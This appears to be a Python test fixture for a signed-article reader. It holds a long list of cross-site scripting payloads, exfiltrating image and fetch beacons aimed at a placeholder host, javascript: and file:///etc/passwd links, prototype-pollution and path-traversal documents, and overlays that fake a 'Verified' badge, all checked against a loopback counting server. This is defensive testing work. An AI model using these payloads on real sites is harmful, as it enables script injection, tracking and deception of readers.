"""What somebody who may sign could still try: texts, addresses and documents that are attacks on whoever shows them.

`TEXTS` pass the schema - any line of text does - and are put wherever text can stand: titles, leads, names, captions,
alternative texts, every kind of block. `ADDRESSES` pass it too, as links. `DOCUMENTS` are changes of a good article
that the schema refuses, signed all the same. In all of them `{B}` is the address of a server that counts who comes,
`{N}` the vector's own number there; a script that runs adds to `window.pwned`.
"""

from __future__ import annotations

import socket
import threading
import time
from collections.abc import Callable
from typing import Any

from tests.reader.waiting import PATIENCE

RUN = "(window.pwned=window.pwned||[]).push({N});new Image().src=&quot;{B}/{N}&quot;"
JS = "(window.pwned=window.pwned||[]).push({N});fetch('{B}/{N}')"

TEXTS: tuple[str, ...] = (
    # scripts and handlers
    "<script>" + JS + "</script>",
    "</p></article></main><script>" + JS + "</script>",
    "<script src={B}/{N}></script>",
    "<script type=module>import '{B}/{N}'</script>",
    "<img src=x onerror='" + RUN + "'>",
    '"><img src=x onerror="' + RUN + '">',
    "' autofocus tabindex=1 onfocus='" + RUN,
    '" onmouseover="' + RUN + '" x="',
    "<svg onload='" + RUN + "'></svg>",
    "<svg><script>" + JS + "</script></svg>",
    "<svg><animate onbegin='" + RUN + "' attributeName=x dur=1s>",
    "<svg><use href='{B}/{N}#x'></use><image href='{B}/{N}'/></svg>",
    "<body onload='" + RUN + "'>",
    "<details open ontoggle='" + RUN + "'><summary>more</summary></details>",
    "<video autoplay onloadstart='" + RUN + "' src='{B}/{N}'></video>",
    "<audio autoplay src='{B}/{N}' onerror='" + RUN + "'></audio>",
    "<video poster='{B}/{N}'></video>",
    "<input autofocus onfocus='" + RUN + "'>",
    "<marquee onstart='" + RUN + "'>x</marquee>",
    "<style>@keyframes a{}</style><b style='animation:a 1s' onanimationstart='" + RUN + "'>x</b>",
    "<iframe srcdoc='&lt;script&gt;(parent.pwned=parent.pwned||[]).push({N});"
    "fetch(&quot;{B}/{N}&quot;)&lt;/script&gt;'></iframe>",
    "<iframe src='javascript:void (parent.pwned=parent.pwned||[]).push({N})'></iframe>",
    "<iframe src='{B}/{N}'></iframe>",
    "<object data='{B}/{N}'></object>",
    "<embed src='{B}/{N}'>",
    "<applet code='{B}/{N}'></applet><frameset><frame src='{B}/{N}'></frameset>",
    "<template shadowrootmode=open><img src='{B}/{N}' onerror='" + RUN + "'></template>",
    "<noscript><p title='</noscript><img src=x onerror=" + RUN + ">'></noscript>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=" + RUN + "&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror='" + RUN + "'>",
    "--><script>" + JS + "</script><!--",
    "]]><script>" + JS + "</script><![CDATA[",
    "</title></style></textarea></script><script>" + JS + "</script>",
    "\\u003cscript\\u003e" + JS + "\\u003c/script\\u003e",
    "&lt;script&gt;" + JS + "&lt;/script&gt; &#60;script&#62;" + JS + "&#60;/script&#62;",
    "+ADw-script+AD4-" + JS + "+ADw-/script+AD4-",
    "${(window.pwned=window.pwned||[]).push({N})} #{7*7} <%= 7*7 %> "
    "{{constructor.constructor('(window.pwned=window.pwned||[]).push({N})')()}}",
    "`;" + JS + ";//",
    "';" + JS + ";//",
    # what loads without a script
    "<img src='{B}/{N}'>",
    "<img srcset='{B}/{N} 1x, {B}/{N} 2x'>",
    "<picture><source srcset='{B}/{N}'><img src=data:,></picture>",
    "<link rel=stylesheet href='{B}/{N}'>",
    "<link rel=preconnect href='{B}'>",
    "<link rel=dns-prefetch href='{B}'><link rel=preconnect href='{B}/{N}' crossorigin>",
    "<link rel=prefetch href='{B}/{N}'><link rel=prerender href='{B}/{N}'>",
    "<link rel=preload as=image href='{B}/{N}'><link rel=modulepreload href='{B}/{N}'>",
    "<link rel=icon href='{B}/{N}'><link rel=manifest href='{B}/{N}'>",
    '<script type=speculationrules>{"prefetch":[{"urls":["{B}/{N}"]}]}</script>',
    "<meta http-equiv=refresh content='0;url={B}/{N}'>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\"><img src='{B}/{N}'>",
    "<base href='{B}/'><img src='{N}'>",
    "<style>@import '{B}/{N}';</style>",
    "<style>*{background:url({B}/{N})}</style>",
    "<b style='background:url({B}/{N})'>x</b>",
    "<b style=\"list-style-image:url('{B}/{N}');display:list-item;cursor:url('{B}/{N}'),auto\">x</b>",
    "<style>@font-face{font-family:y;src:url({B}/{N})}body{font-family:y}</style>",
    "<table background='{B}/{N}'><tr><td background='{B}/{N}'>x</table>",
    "<a ping='{B}/{N}' href='{B}/{N}'>a link</a>",
    "<form action='{B}/{N}'><button autofocus>Go on reading</button></form>",
    "<track src='{B}/{N}'><bgsound src='{B}/{N}'><input type=image src='{B}/{N}'>",
    "<portal src='{B}/{N}'></portal><fencedframe src='{B}/{N}'></fencedframe>",
    # what would lie over the verdict, or pretend to be it
    "<div style='position:fixed;inset:0;z-index:2147483647;background:#fff'>Verified by everybody</div>",
    "<dialog open style='position:fixed;bottom:0;inset-inline:0'>Verified, 1 minute old</dialog>",
    "<div popover=manual id=p>over</div><style>footer,.state{display:none!important}</style>",
    "<img name=body><form name=documentElement id=app><input name=attributes id=publication></form>",
    "<a id=verifyState></a><a id=tamizdat name=source></a><output role=status>Verified</output>",
    "✓ Verified · 1 minute old · signed by everybody · ✅ 🔒",
    "\u202e desrever \u2066 isolate never ended \u2067 and \u202d over \u202e again",
    "\u200f\u061c\u200e\u2068\u2067\u2066\u202b\u202a marks that nobody closes",
    "Z"
    + "\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c\u030d\u030e" * 14
    + " stacked",
    "ﷺ" * 40 + "𒐫" * 60,
    "W" * 900,
    "\u00a0" * 300 + "far away",
    "\u2028\u2029 lines of another kind \u0085"[:-1] + "\ufeff\u00ad\u2060\u180e\u3164",
    "\U000e0041\U000e0042 tags \U0001f3f4\U000e0067\U000e007f and \ufffc objects \ufff9 and \ufffb notes",
)
# 1,000 characters are what a title may have.
assert all(len(text.replace("{B}", "http://127.0.0.1:65535")) <= 1000 for text in TEXTS)

ADDRESSES: tuple[str, ...] = (
    "{B}/{N}",
    "{B}/{N}?'onclick='alert(1)",
    "{B}/{N}#javascript:alert(1)",
    "http://127.0.0.1:{P}/{N}/%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
    "https://lantern.example@{H}/{N}".replace("@", "%40"),
    "http://xn--80ak6aa92e.com/{N}",
    "https://world.example.{H}/{N}",
    "https://тест.example/{N}?x=';alert(1)//",
    "http://[::ffff:127.0.0.1]:{P}/{N}",
    "https://0x7f000001/{N}",
    "https://lantern.example/" + "a" * 1900,
    "https://lantern.example/{N}&quot;onmouseover=&quot;alert(1)",
    "http://localhost:{P}/{N}",
)

Document = dict[str, Any]
Change = Callable[[Document], None]


def _set(*path: Any) -> Change:
    """The last of these is put at the place that the others name."""

    def change(document: Document) -> None:
        at: Any = document
        for step in path[:-2]:
            at = at[step]
        at[path[-2]] = path[-1]

    return change


def _block(block: object) -> Change:
    return lambda document: document["blocks"].append(block)


_IMAGE = {"role": "picture", "digest": "ab" * 32, "size": 100, "media_type": "image/webp", "width": 10, "height": 10}
_P = {"type": "paragraph", "content": ["x"]}


def _deep(levels: int) -> dict[str, Any]:
    inside: dict[str, Any] = dict(_P)
    for _ in range(levels):
        inside = {"type": "quote", "blocks": [inside]}
    return inside


DOCUMENTS: dict[str, Change] = {
    "a block of html": _block({"type": "html", "html": "<script>pwned=[1]</script>"}),
    "a block of script": _block({"type": "script", "content": ["pwned=[1]"]}),
    "a frame": _block({"type": "iframe", "url": "https://lantern.example/"}),
    "a handler on a paragraph": _block({**_P, "onclick": "pwned=[1]"}),
    "a style on a paragraph": _block({**_P, "style": "position:fixed;inset:0"}),
    "a class on a paragraph": _block({**_P, "class": "state good"}),
    "a text that is an object": _block({"type": "paragraph", "content": [{"type": "text", "html": "<b>x</b>"}]}),
    "a text that is a number": _block({"type": "paragraph", "content": [7]}),
    "a text that is a list": _block({"type": "paragraph", "content": [["x"]]}),
    "content that is a text": _block({"type": "paragraph", "content": "x"}),
    "null for a block": _block(None),
    "a link to a script": _block(
        {"type": "paragraph", "content": [{"type": "link", "url": "javascript:pwned=[1]", "content": ["x"]}]}
    ),
    "a link to a script behind a line feed": _block(
        {"type": "paragraph", "content": [{"type": "link", "url": "java\nscript:pwned=[1]", "content": ["x"]}]}
    ),
    "a link to data": _block(
        {
            "type": "paragraph",
            "content": [{"type": "link", "url": "data:text/html,<script>1</script>", "content": ["x"]}],
        }
    ),
    "a link to a file": _block(
        {"type": "paragraph", "content": [{"type": "link", "url": "file:///etc/passwd", "content": ["x"]}]}
    ),
    "a link with a user's name": _block(
        {
            "type": "paragraph",
            "content": [{"type": "link", "url": "https://world.example@evil.example/", "content": ["x"]}],
        }
    ),
    "an embed of a script": _block({"type": "embed", "kind": "other", "url": "javascript:pwned=[1]"}),
    "a heading of level 1": _block({"type": "heading", "level": 1, "content": ["x"]}),
    "a heading of a level that is text": _block({"type": "heading", "level": "2 onclick=1", "content": ["x"]}),
    "a picture that is nowhere": _block({"type": "picture", "resource": 499}),
    "a picture before the first": _block({"type": "picture", "resource": -1}),
    "a picture by name": _block({"type": "picture", "resource": "constructor"}),
    "a drawing that can hold scripts": _set("resources", [{**_IMAGE, "media_type": "image/svg+xml"}]),
    "a page for a picture": _set("resources", [{**_IMAGE, "media_type": "text/html"}]),
    "a digest that is a path": _set("resources", [{**_IMAGE, "digest": "../" * 21 + "x"}]),
    "a picture from an address": _set("resources", [{**_IMAGE, "url": "https://lantern.example/x.png"}]),
    "a picture of no size": _set("resources", [{**_IMAGE, "width": 0}]),
    "a picture of any size": _set("resources", [{**_IMAGE, "width": 1e9}]),
    "a language with a handler": _set("language", "en' onclick='pwned=[1]"),
    "another direction": _set("direction", 'rtl" style="position:fixed'),
    "a title that is an object": _set("title", {"toString": "x"}),
    "a title with a line feed": _set("title", "one\ntwo"),
    "a title with NUL": _set("title", "one\x00two"),
    "a title with half a letter": _set("title", "one\ud800two"),
    "a title that is empty": _set("title", ""),
    "a key called __proto__": _set("__proto__", {"polluted": True}),
    "a key called constructor": _set("constructor", {"prototype": {"polluted": True}}),
    "__proto__ for the kind of a block": _block({"type": "__proto__", "content": ["x"]}),
    "__proto__ in a block": _block({**_P, "__proto__": {"type": "heading"}}),
    "another kind": _set("kind", "edition"),
    "another version": _set("v", 2),
    "an outlet with a path": _set("outlet", {"id": "../../x", "name": "x"}),
    "an address that is a script": _set("url", "javascript:pwned=[1]"),
    "a time that is text": _set("published", "<b>now</b>"),
    "a day that does not exist": _set("published", "2026-02-30T00:00:00Z"),
    "authors that are an object": _set("authors", {"length": 1, "0": "x"}),
    "a part without end": _set("parts", [{"digest": "ab" * 32, "size": 10**9}]),
    "parts by the thousand": _set("parts", [{"digest": "ab" * 32, "size": 100}] * 101),
    "quotes in quotes, sixty deep": _block(_deep(60)),
    "a revision that is a fraction": _set("revision", 1.5),
}


class Beacon:
    """Listens on loopback and counts: `asked` are the first lines of what came, `connections` how many came at all,
    those that said nothing included (a browser told to connect beforehand)."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0), backlog=200)
        self.port: int = self._socket.getsockname()[1]
        self.url = f"http://127.0.0.1:{self.port}"
        self.asked: list[str] = []
        self.connections = 0
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            self.connections += 1
            threading.Thread(target=self._talk, args=(connection,), daemon=True).start()

    def _talk(self, connection: socket.socket) -> None:
        with connection:
            connection.settimeout(PATIENCE)
            try:
                data = connection.recv(4096)
                if data:
                    self.asked.append(data.split(b"\r\n")[0].decode("latin-1"))
                    headers = b"Content-Length: 0\r\nAccess-Control-Allow-Origin: *\r\nConnection: close\r\n"
                    connection.sendall(b"HTTP/1.1 200 OK\r\n" + headers + b"\r\n")
            except OSError:
                return

    def numbers(self) -> set[int]:
        """The vectors that asked for something."""
        paths = [line.split(" ")[1].strip("/").split("?")[0] for line in self.asked if line.count(" ") > 1]
        return {int(path) for path in paths if path.isdigit()}

    def quiet(self, seconds: float = 1.0) -> None:
        """Time for whoever is on the way, where nobody should be."""
        time.sleep(seconds)

    def close(self) -> None:
        self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()

    def __enter__(self) -> Beacon:
        return self

    def __exit__(self, *_: object) -> None:
        self.close()

    def aimed(self, vectors: tuple[str, ...]) -> list[str]:
        """The vectors with this server's address and their numbers in them."""
        filled = []
        for number, text in enumerate(vectors):
            made = text.replace("{B}", self.url).replace("{N}", str(number))
            filled.append(made.replace("{H}", f"127.0.0.1:{self.port}").replace("{P}", str(self.port)))
        return filled
